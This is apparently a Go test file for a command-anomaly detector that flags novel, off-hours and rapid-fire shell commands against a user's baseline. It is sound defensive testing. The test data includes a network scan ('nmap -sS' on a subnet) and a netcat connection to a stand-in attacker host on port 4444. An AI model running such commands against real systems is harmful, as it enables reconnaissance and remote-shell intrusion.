package security

import (
	"fmt"
	"testing"
	"time"
)

// seedBaseline records enough history to compute a baseline where the user
// works during hour 10-12 and uses ls/cat.
func seedBaseline(d *AnomalyDetector, userID string, base time.Time) {
	for i := 0; i < 12; i++ {
		d.now = func() time.Time { return base.Add(time.Duration(i) * 10 * time.Minute) }
		cmd := "ls -la"
		if i%2 == 0 {
			cmd = "cat file.txt"
		}
		d.Analyze(userID, cmd)
	}
	d.now = func() time.Time { return base.Add(2 * time.Hour) }
	d.UpdateBaseline(userID)
}

func TestAnomalyDetector_NoBaselineLowScore(t *testing.T) {
	d := NewAnomalyDetector(testLogger())

	res := d.Analyze("u1", "ls")
	if res.IsAnomaly {
		t.Errorf("first command without baseline should not be anomalous: %+v", res)
	}
	if res.Recommendation != RecommendAllow {
		t.Errorf("recommendation = %s, want allow", res.Recommendation)
	}
}

func TestAnomalyDetector_NovelCommand(t *testing.T) {
	d := NewAnomalyDetector(testLogger())
	base := time.Date(2026, 3, 2, 10, 0, 0, 0, time.UTC)
	seedBaseline(d, "u1", base)

	// Same working hours, novel head token, spaced in time.
	d.now = func() time.Time { return base.Add(2*time.Hour + 30*time.Minute) }
	res := d.Analyze("u1", "nmap -sS 10.0.0.0/24")

	if !hasFactor(res.Factors, "novel command") {
		t.Errorf("expected novel command factor, got %v", res.Factors)
	}
}

func TestAnomalyDetector_RapidSuccession(t *testing.T) {
	d := NewAnomalyDetector(testLogger())

	now := time.Date(2026, 3, 2, 10, 0, 0, 0, time.UTC)
	d.now = func() time.Time { return now }
	d.Analyze("u1", "ls")

	now = now.Add(200 * time.Millisecond)
	res := d.Analyze("u1", "ls")
	if !hasFactor(res.Factors, "rapid succession") {
		t.Errorf("expected rapid succession factor, got %v", res.Factors)
	}
}

func TestAnomalyDetector_OffHours(t *testing.T) {
	d := NewAnomalyDetector(testLogger())
	base := time.Date(2026, 3, 2, 10, 0, 0, 0, time.UTC)
	seedBaseline(d, "u1", base)

	// 03:00 is outside the 10-12 typical range.
	d.now = func() time.Time { return base.Add(17 * time.Hour) }
	res := d.Analyze("u1", "ls")
	if !hasFactor(res.Factors, "off-hours activity") {
		t.Errorf("expected off-hours factor, got %v", res.Factors)
	}
}

func TestAnomalyDetector_ScoreThresholds(t *testing.T) {
	d := NewAnomalyDetector(testLogger())
	base := time.Date(2026, 3, 2, 10, 0, 0, 0, time.UTC)
	seedBaseline(d, "u1", base)

	// Off-hours (0.20) + novel (0.20) + rapid succession (0.15) = 0.55.
	at := base.Add(17 * time.Hour)
	d.now = func() time.Time { return at }
	d.Analyze("u1", "ls")
	at = at.Add(100 * time.Millisecond)
	res := d.Analyze("u1", "nc attacker.io 4444")

	if !res.IsAnomaly {
		t.Errorf("score %.2f should be anomalous", res.Score)
	}
	if res.Recommendation != RecommendFlag {
		t.Errorf("recommendation = %s, want flag (score %.2f)", res.Recommendation, res.Score)
	}
}

func TestAnomalyDetector_UpdateBaselineNeedsTen(t *testing.T) {
	d := NewAnomalyDetector(testLogger())

	for i := 0; i < 9; i++ {
		d.Analyze("u1", "ls")
	}
	if b := d.UpdateBaseline("u1"); b != nil {
		t.Error("baseline must not compute with fewer than 10 entries")
	}

	d.Analyze("u1", "ls")
	b := d.UpdateBaseline("u1")
	if b == nil {
		t.Fatal("baseline should compute with 10 entries")
	}
	if b.CommandFrequency["ls"] != 10 {
		t.Errorf("command frequency = %d, want 10", b.CommandFrequency["ls"])
	}
}

func TestAnomalyDetector_RecentFIFOBounded(t *testing.T) {
	d := NewAnomalyDetector(testLogger())

	for i := 0; i < 150; i++ {
		d.Analyze("u1", fmt.Sprintf("cmd%d", i))
	}

	d.mu.Lock()
	n := len(d.recent["u1"])
	d.mu.Unlock()
	if n != maxRecentCommands {
		t.Errorf("recent FIFO length = %d, want %d", n, maxRecentCommands)
	}
}

func hasFactor(factors []string, want string) bool {
	for _, f := range factors {
		if f == want {
			return true
		}
	}
	return false
}
